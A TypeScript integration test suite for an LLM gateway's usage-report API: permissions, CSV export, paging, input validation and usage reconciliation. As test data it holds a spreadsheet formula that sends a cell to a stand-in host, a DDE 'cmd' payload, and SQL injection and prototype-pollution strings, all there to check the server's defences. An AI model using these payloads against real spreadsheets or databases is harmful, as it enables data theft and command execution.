import { sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ADVISORY_LOCK, openSessionLocks } from "../../../src/db/locks/advisory-locks.ts";
import { makeUsageDays } from "../../../src/usage/sums/usage-days.ts";
import { callHttp, type HttpCall, logIn } from "../../support/clients/http-session.ts";
import { readCsvTable } from "../../support/clients/read-csv.ts";
import { databaseServerUrl } from "../../support/servers/databases/database-server.ts";
import { TEST_KEY } from "../../support/servers/start-gateway.ts";
import { startSimulator, type TestSimulator } from "../../support/servers/start-simulator.ts";
import { ADMIN_PASSWORD, type ServedDeps, serveDeps } from "../../support/stages/served-deps.ts";
import { eventually } from "../../support/stages/usage/usage-journal.ts";
import { randomUsage, storeUsage, sumUsage } from "../../support/stages/usage/usage-ledger.ts";
import { addKey, addPerson, type Person } from "../../support/stages/usage/usage-people.ts";

const HOUR_MS = 3_600_000;
const DAY_MS = 24 * HOUR_MS;
const PATH = "/api/usage";
const EVIL_NAME = '=HYPERLINK("http://198.51.100.1/?"&A1,"click, me")';
/** Long enough ago that no call of the test is in it. */
const FROM = Math.floor(Date.now() / DAY_MS) * DAY_MS - 20 * DAY_MS;
const TO = FROM + 3 * DAY_MS;
const RANGE = `from=${new Date(FROM).toISOString()}&to=${new Date(TO).toISOString()}`;

const stores: [string, string | undefined][] = [["the embedded database", undefined]];
if (databaseServerUrl !== undefined) stores.push(["PostgreSQL", databaseServerUrl]);

describe.each(stores)("GET /api/usage on %s", (_name, serverUrl) => {
  let simulator: TestSimulator;
  let served: ServedDeps;
  let admin: string;
  let user: Person;
  const keys = { user: "", other: "", deleted: "", orphan: "", evil: "" };
  let userKey: string;
  let ledger: ReturnType<typeof randomUsage>;

  const call = (request: HttpCall) => callHttp(served.url, { token: admin, ...request });
  const read = async (query: string, token = admin) => {
    const { status, body, text } = await call({ path: `${PATH}?${query}`, token });
    expect({ status, text }).toMatchObject({ status: 200 });
    return body;
  };
  const store = (records: Parameters<typeof storeUsage>[1]) =>
    served.deps.access.database.ask((db) => storeUsage({ db }, records));

  beforeAll(async () => {
    simulator = await startSimulator({
      models: [{ name: "first", contextLength: 8_192, capabilities: ["completion"] }],
      uniqueUsage: true,
    });
    served = await serveDeps(serverUrl, { LLM_BACKEND: "vllm", LLM_BASE_URL: simulator.url });
    admin = await logIn(served.url, "admin", ADMIN_PASSWORD);
    user = await addPerson(served.url, admin, "user");
    const other = await addPerson(served.url, admin, "other");
    const gone = await addPerson(served.url, admin, "gone");
    const issued = await addKey(served.url, user.token, "user's");
    userKey = issued.key;
    keys.user = issued.id;
    keys.deleted = (await addKey(served.url, user.token, "deleted")).id;
    keys.evil = (await addKey(served.url, user.token, EVIL_NAME)).id;
    keys.other = (await addKey(served.url, other.token, "other's")).id;
    keys.orphan = (await addKey(served.url, gone.token, "orphan")).id;
    const keyIds = Object.values(keys);
    ledger = randomUsage({ seed: 21, count: 600, keyIds, from: FROM, to: TO });
    for (let day = FROM; day < Date.now(); day += DAY_MS) {
      await served.deps.access.database.ask((db) => makeUsageDays(db, day));
    }
    await store(ledger);
    await call({ method: "DELETE", path: `/v1/api-keys/${keys.deleted}`, token: user.token });
    await call({ method: "DELETE", path: `/api/admin/users/${gone.id}` });
  });
  afterAll(async () => {
    await served?.close();
    await simulator?.stop();
  });

  it("says to an administrator everything, by the names that JSON has", async () => {
    const report = await read(`${RANGE}&group=day`);
    const sums = sumUsage(ledger);
    expect(report).toEqual({
      object: "list",
      from: new Date(FROM).toISOString(),
      to: new Date(TO).toISOString(),
      hourly_from: expect.stringMatching(/T00:00:00\.000Z$/),
      group: ["day"],
      data: [0, 1, 2].map((day) => {
        const first = FROM + day * DAY_MS;
        const of = ledger.filter((record) => Math.floor((record.startedAt - first) / DAY_MS) === 0);
        return { day: new Date(first).toISOString().slice(0, 10), ...fieldsOf(sumUsage(of)) };
      }),
      has_more: false,
      totals: fieldsOf(sums),
    });
  });

  function fieldsOf(sums: ReturnType<typeof sumUsage>) {
    return {
      requests: sums.requests,
      ok: sums.requests - sums.failures - sums.aborted,
      failures: sums.failures,
      rate_limited: sums.rateLimited,
      aborted: sums.aborted,
      refused: 0,
      input_tokens: sums.inputTokens,
      output_tokens: sums.outputTokens,
      cached_tokens: sums.cachedTokens,
      reasoning_tokens: sums.reasoningTokens,
      total_tokens: sums.inputTokens + sums.outputTokens,
      average_latency_ms: Math.round(sums.latencyMs / sums.requests),
    };
  }

  it("shows a user what the keys owned now have used, and nothing of others", async () => {
    const own = ledger.filter(({ keyId }) => [keys.user, keys.evil].includes(keyId));
    const { data, totals } = await read(`${RANGE}&group=key`, user.token);
    expect(data.map((row: { key_id: string }) => row.key_id).sort()).toEqual(
      [keys.user, keys.evil].sort(),
    );
    expect(totals).toEqual(fieldsOf(sumUsage(own)));
    for (const key of [keys.other, keys.deleted, keys.orphan]) {
      const foreign = await read(`${RANGE}&group=key&key_id=${key}`, user.token);
      expect([foreign.data, foreign.totals.requests]).toEqual([[], 0]);
    }
    const mine = await read(`${RANGE}&group=user&user_id=${user.id}`, user.token);
    expect(mine.data).toMatchObject([
      { user_id: user.id, username: "user", user_state: "active", requests: own.length },
    ]);
    const refused = await call({ path: `${PATH}?user_id=usr_another`, token: user.token });
    expect(refused).toMatchObject({
      status: 403,
      body: { error: { code: "insufficient_permission", param: "user_id" } },
    });
    // The administrator sees who is there, and that somebody is not.
    const all = await read(`${RANGE}&group=key`);
    const stateOf = (id: string) =>
      all.data.find((row: { key_id: string }) => row.key_id === id)?.key_state;
    expect([keys.user, keys.other, keys.deleted, keys.orphan].map(stateOf)).toEqual([
      "active",
      "active",
      "deleted",
      "deleted",
    ]);
  });

  it("is for sessions alone", async () => {
    expect((await callHttp(served.url, { path: PATH })).status).toBe(401);
    expect((await call({ path: PATH, token: TEST_KEY })).status).toBe(403);
    expect((await call({ path: PATH, method: "POST" })).status).toBe(405);
  });

  it("adds up real calls to what the engine told", async () => {
    const before = await read("group=key");
    const requestsOf = (report: { data: { key_id: string; requests: number }[] }) =>
      report.data.find(({ key_id: id }) => id === keys.user)?.requests ?? 0;
    for (const stream of [false, true, false]) {
      const answer = await call({
        method: "POST",
        path: "/v1/chat/completions",
        token: userKey,
        body: { model: "first", stream, messages: [{ role: "user", content: "hello" }] },
      });
      expect(answer.status).toBe(200);
    }
    await call({ method: "PATCH", path: `/v1/api-keys/${keys.user}`, body: { rpm_limit: 0 } });
    const refused = await call({
      method: "POST",
      path: "/v1/chat/completions",
      token: userKey,
      body: { model: "first", messages: [{ role: "user", content: "hello" }] },
    });
    expect(refused.status).toBe(429);
    await served.deps.refusals.flush();
    await eventually(async () => requestsOf(await read("group=key")) === requestsOf(before) + 3);
    const told = simulator
      .ledger()
      .flatMap((entry) =>
        entry.path === "/v1/chat/completions" && entry.told ? [entry.told] : [],
      );
    expect(told).toHaveLength(3);
    const sum = (name: "inputTokens" | "outputTokens") =>
      told.reduce((total, usage) => total + usage[name], 0);
    const { totals } = await read(
      `group=hour,channel&from=${new Date(Date.now() - HOUR_MS).toISOString()}`,
      user.token,
    );
    expect(totals).toMatchObject({
      requests: 3,
      ok: 3,
      refused: 1,
      input_tokens: sum("inputTokens"),
      output_tokens: sum("outputTokens"),
    });
    const reconciled = await call({ path: `${PATH}/reconciliation?from=${dayText(FROM)}` });
    expect(reconciled.body).toMatchObject({ mismatches: 0, data: [], has_more: false });
  });

  it("covers thirty days unless told, and says the range that it took", async () => {
    const { from, to, group } = await read("");
    expect(group).toEqual(["day"]);
    const hour = Math.floor(Date.now() / HOUR_MS) * HOUR_MS;
    expect(Math.abs(Date.parse(to) - hour - HOUR_MS)).toBeLessThanOrEqual(HOUR_MS);
    expect(Date.parse(to) - Date.parse(from)).toBeGreaterThanOrEqual(30 * DAY_MS);
    expect(Date.parse(to) - Date.parse(from)).toBeLessThanOrEqual(30 * DAY_MS + HOUR_MS);
    const dates = await read(`from=${dayText(FROM)}&to=${dayText(FROM + DAY_MS)}&group=hour`);
    expect([dates.from, dates.to, dates.data.length]).toEqual([
      new Date(FROM).toISOString(),
      new Date(FROM + DAY_MS).toISOString(),
      24,
    ]);
    const offset = encodeURIComponent(`${dayText(FROM)}T05:30:00+05:30`);
    expect((await read(`from=${offset}&to=${dayText(FROM + DAY_MS)}`)).from).toBe(
      new Date(FROM).toISOString(),
    );
    expect((await read("from=2024-02-29&to=2024-03-01")).data).toHaveLength(1);
    // The last hour that can be named is not widened into a year that the database does not read.
    const last = await read("from=9999-12-31T23:00:00Z&to=9999-12-31T23:30:00Z&group=hour");
    expect([last.to, last.data.length]).toEqual(["9999-12-31T23:59:59.999Z", 1]);
    // What is empty is not given.
    expect((await read("from=&to=&key_id=&limit=&group=")).group).toEqual(["day"]);
  });

  it("comes as CSV that can be read back, and that no spreadsheet runs", async () => {
    const json = await read(`${RANGE}&group=day,key`);
    for (const request of [
      { path: `${PATH}?${RANGE}&group=key,day&format=csv` },
      { path: `${PATH}?${RANGE}&group=day,key`, headers: { accept: "text/csv" } },
      {
        path: `${PATH}?${RANGE}&group=day,key`,
        headers: { accept: "application/json;q=0.5, text/csv" },
      },
    ]) {
      const { status, headers, text } = await call(request);
      expect(status).toBe(200);
      expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(headers.get("content-disposition")).toBe(
        `attachment; filename="usage-by-day-and-key-${dayText(FROM)}-to-${dayText(TO - 1)}.csv"`,
      );
      expect(headers.get("link")).toBeNull();
      const table = readCsvTable(text);
      const shown = json.data.map((row: Record<string, unknown>) => ({
        ...Object.fromEntries(
          Object.entries(row).map(([name, value]) => [name, value === null ? "" : String(value)]),
        ),
        key_name: row["key_name"] === EVIL_NAME ? `'${EVIL_NAME}` : (row["key_name"] ?? ""),
      }));
      expect(table).toEqual(shown);
      expect(Object.keys(table[0] ?? {})).toEqual(Object.keys(json.data[0]));
      expect(table.some((row) => row["key_name"] === `'${EVIL_NAME}`)).toBe(true);
    }
    const models = await call({ path: `${PATH}?${RANGE}&group=model&format=csv` });
    expect(
      readCsvTable(models.text)
        .map((row) => [row["model"], row["refused"]])
        .sort(),
    ).toEqual(
      [
        ["'=cmd|'/c calc'!A0", ""],
        ["llama", ""],
        ["qwen3", ""],
      ].sort(),
    );
    const empty = await call({
      path: `${PATH}?from=2024-01-01&to=2024-01-02&group=key&format=csv`,
    });
    expect(empty.text).toMatch(/^key_id,key_name,key_state,owner_id,owner_name,requests,.*\r\n$/);
    for (const accept of ["*/*", "application/json, text/csv;q=0.1", "text/csv;q=0", "text/html"]) {
      const { body } = await call({ path: `${PATH}?${RANGE}`, headers: { accept } });
      expect(body.object).toBe("list");
    }
    const asked = await call({ path: `${PATH}?format=json`, headers: { accept: "text/csv" } });
    expect(asked.body.object).toBe("list");
  });

  it("comes in pages, and CSV names the next one", async () => {
    const query = `${RANGE}&group=day,model`;
    const whole = await read(query);
    expect(whole.data).toHaveLength(9);
    const first = await read(`${query}&limit=4`);
    expect([first.data, first.has_more]).toEqual([whole.data.slice(0, 4), true]);
    const last = await read(`${query}&limit=4&offset=8`);
    expect([last.data, last.has_more]).toEqual([whole.data.slice(8), false]);
    const days: string[] = [];
    let path: string | undefined = `${PATH}?${query}&limit=4&format=csv`;
    while (path !== undefined) {
      const { headers, text } = await call({ path });
      days.push(...readCsvTable(text).map((row) => `${row["day"]} ${row["requests"]}`));
      path = /^<(.*)>; rel="next"$/.exec(headers.get("link") ?? "")?.[1];
    }
    expect(days).toEqual(
      whole.data.map((row: { day: string; requests: number }) => `${row.day} ${row.requests}`),
    );
  });

  it("names a next page of the same range, when that is the default one too", async () => {
    const { headers } = await call({ path: `${PATH}?group=day,model&limit=1&format=csv` });
    const { searchParams } = new URL(
      /^<(.*)>; rel="next"$/.exec(headers.get("link") ?? "")?.[1] ?? "",
      served.url,
    );
    const [from, to] = ["from", "to"].map((name) => Date.parse(searchParams.get(name) ?? ""));
    expect(Number(to) - Number(from)).toBe(30 * DAY_MS);
    expect(Math.abs(Number(to) - Date.now())).toBeLessThan(HOUR_MS);
    expect(searchParams.get("offset")).toBe("1");
  });

  it.each([
    ["from=2026-02-30", "from"],
    ["from=2026-02-30T00:00:00Z", "from"],
    ["from=2025-02-29", "from"],
    ["from=yesterday", "from"],
    ["from=1969-12-31", "from"],
    ["from=0000-01-01&to=0000-02-01", "from"],
    ["from=1969-12-31&to=1970-01-02", "from"],
    ["to=0000-02-01", "to"],
    ["from=%2B275760-09-13T00:00:00.000Z", "from"],
    ["from=275760-09-13", "from"],
    ["to=%2B275760-09-13", "to"],
    ["to=9999-12-31T23:59:59-14:00", "to"],
    ["from=1789997600000", "from"],
    ["from=2026-09-21T25:00:00Z", "from"],
    ["from=2026-09-21%00", "from"],
    [`from=${"2".repeat(201)}`, "from"],
    ["from=2026-01-02&to=2026-01-01", "to"],
    ["from=2026-01-01&to=2026-01-01", "to"],
    ["from=9998-01-01", "from"],
    ["from=2025-01-01&to=2026-02-06", "from"],
    ["from=2026-01-01&from=2026-01-02", "from"],
    ["group=day&group=key", "group"],
    ["group=hour,day", "group"],
    ["group=key,model,channel", "group"],
    ["group=key,key", "group"],
    ["group=planet", "group"],
    ["group=day,", "group"],
    ["group=key_id;drop table users", "group"],
    ["key_id=%00", "key_id"],
    ["key_id=a%20b", "key_id"],
    [`key_id=${"k".repeat(201)}`, "key_id"],
    ["model=%00", "model"],
    [`model=${"m".repeat(201)}`, "model"],
    ["channel=telephone", "channel"],
    ["channel=chat'--", "channel"],
    ["user_id=%0a", "user_id"],
    ["format=xml", "format"],
    ["limit=0", "limit"],
    ["limit=10001", "limit"],
    ["limit=1.5", "limit"],
    ["limit=ten", "limit"],
    ["limit=1e400", "limit"],
    ["offset=-1", "offset"],
    ["offset=99999999999999999999", "offset"],
    ["keyid=key_1", "keyid"],
    ["__proto__=1", "__proto__"],
    ["constructor=1", "constructor"],
    ["toString=1&toString=2", "toString"],
  ])("refuses %s and names it", async (query, param) => {
    const { status, body } = await call({ path: `${PATH}?${query}` });
    expect({ status, body }).toMatchObject({ status: 400, body: { error: { param } } });
    expect(JSON.stringify(body).length).toBeLessThan(500);
  });

  it("takes SQL in a filter for a name, and finds nothing of it", async () => {
    for (const text of ["' or '1'='1", "%25", "qwen3%25", "\\", '"; drop table usage_hours; --']) {
      const model = encodeURIComponent(text);
      expect((await read(`${RANGE}&group=key&model=${model}`)).totals.requests).toBe(0);
    }
    expect((await read(`${RANGE}&group=key&key_id='or'1'='1`)).data).toEqual([]);
    expect((await read(`${RANGE}`)).totals.requests).toBe(ledger.length);
  });

  describe("and its reconciliation", () => {
    const path = `${PATH}/reconciliation`;
    const spoil = () =>
      served.deps.access.database.ask((db) =>
        db.execute(
          sql`update usage_hours set requests = requests + 1 where key_id = ${keys.other} and hour < ${new Date(FROM + DAY_MS).toISOString()}::timestamptz`,
        ),
      );
    const range = { from: dayText(FROM), to: dayText(TO) };

    it("tells an administrator what differs, and sets it right on demand, with an entry in the audit log", async () => {
      const clean = await call({ path: `${path}?${new URLSearchParams(range)}` });
      expect(clean.body).toMatchObject({
        object: "list",
        from: new Date(FROM).toISOString(),
        to: new Date(TO).toISOString(),
        hours: 72,
        mismatches: 0,
        data: [],
        has_more: false,
      });
      const spoilt = (await spoil()).length;
      const { body } = await call({ path: `${path}?${new URLSearchParams(range)}` });
      expect(body.mismatches).toBeGreaterThan(spoilt);
      expect(body.data[0]).toEqual({
        kind: "hour",
        hour: expect.stringMatching(/:00:00\.000Z$/),
        key_id: keys.other,
        model: expect.any(String),
        channel: expect.any(String),
        figures: { requests: { counted: expect.any(Number), stored: expect.any(Number) } },
      });
      const { counted, stored } = body.data[0].figures.requests;
      expect(stored).toBe(counted + 1);
      const repaired = await call({ method: "POST", path, body: range });
      expect(repaired).toMatchObject({
        status: 200,
        body: { object: "usage.repair", months: 0, repaired: body.mismatches },
      });
      expect((await call({ path: `${path}?${new URLSearchParams(range)}` })).body.mismatches).toBe(
        0,
      );
      expect((await read(RANGE)).totals.requests).toBe(ledger.length);
      const audit = await call({ path: "/api/admin/audit?action=usage.repair&target_kind=usage" });
      expect(audit.body.data).toHaveLength(repaired.body.hours);
      expect(audit.body.data[0]).toMatchObject({ actor: { name: "admin" }, via: "session" });
    });

    it("names no key where sums over all keys differ", async () => {
      await served.deps.access.database.ask((db) =>
        db.execute(
          sql`update model_hours set failures = failures + 2 where hour = (select min(hour) from model_hours) and model = (select min(model) from model_hours)`,
        ),
      );
      const query = new URLSearchParams(range);
      const { body } = await call({ path: `${path}?${query}` });
      expect(body.data[0]).toEqual({
        kind: "hour",
        hour: expect.stringMatching(/:00:00\.000Z$/),
        key_id: null,
        model: expect.any(String),
        channel: expect.any(String),
        figures: { failures: { counted: expect.any(Number), stored: expect.any(Number) } },
      });
      const repaired = await call({ method: "POST", path, body: range });
      expect(repaired.body).toMatchObject({ hours: 1, days: 0, repaired: body.mismatches });
      expect((await call({ path: `${path}?${query}` })).body.mismatches).toBe(0);
    });

    it("runs once at a time: others are refused, and other calls go on", async () => {
      const repairs = Array.from({ length: 12 }, () => call({ method: "POST", path, body: range }));
      const reports = Array.from({ length: 4 }, () => call({ path: `${PATH}?${RANGE}` }));
      const statuses = (await Promise.all(repairs)).map(({ status }) => status);
      expect(new Set(statuses)).toEqual(new Set([200, 409]));
      for (const { status } of await Promise.all(reports)) expect(status).toBe(200);
      expect((await call({ method: "POST", path, body: range })).status).toBe(200);
    });

    it.skipIf(serverUrl === undefined)("runs on one replica at a time", async () => {
      const other = openSessionLocks({
        url: served.databaseUrl,
        space: ADVISORY_LOCK.reconciliation,
      });
      expect(await other.hold("reconciliation")).toBeDefined();
      for (const request of [{ path }, { method: "POST", path, body: range }]) {
        expect(await call(request)).toMatchObject({
          status: 409,
          body: { error: { type: "conflict_error", code: "run_active" } },
        });
      }
      await other.close();
      expect((await call({ method: "POST", path, body: range })).status).toBe(200);
    });

    it("is for administrators", async () => {
      for (const request of [{ path }, { method: "POST", path, body: range }]) {
        const refused = await call({ ...request, token: user.token });
        expect(refused).toMatchObject({
          status: 403,
          body: { error: { code: "insufficient_permission" } },
        });
      }
    });

    it("covers the last whole day unless told, and a month at most", async () => {
      const { from, to, hours } = (await call({ path })).body;
      expect([Date.parse(to) - Date.parse(from), hours]).toEqual([DAY_MS, 24]);
      for (const [query, param] of [
        ["from=2026-01-01&to=2026-02-02", "from"],
        ["from=2026-02-30", "from"],
        ["key_id=key_1", "key_id"],
        ["from=2026-01-02&to=2026-01-01", "to"],
      ]) {
        const { status, body } = await call({ path: `${path}?${query}` });
        expect({ status, body }).toMatchObject({ status: 400, body: { error: { param } } });
      }
    });

    it.each([
      [{}, "from"],
      [{ from: "2026-01-01" }, "to"],
      [{ from: "2026-01-01", to: "2026-03-01" }, "from"],
      [{ from: "2026-01-02", to: "2026-01-01" }, "to"],
      [{ from: 1, to: "2026-01-01" }, "from"],
      [{ from: "2026-01-01", to: "2026-01-02", force: true }, "force"],
    ])("repairs nothing for %j", async (body, param) => {
      const refused = await call({ method: "POST", path, body });
      expect(refused).toMatchObject({ status: 400, body: { error: { param } } });
    });
  });
});

function dayText(time: number): string {
  return new Date(time).toISOString().slice(0, 10);
}
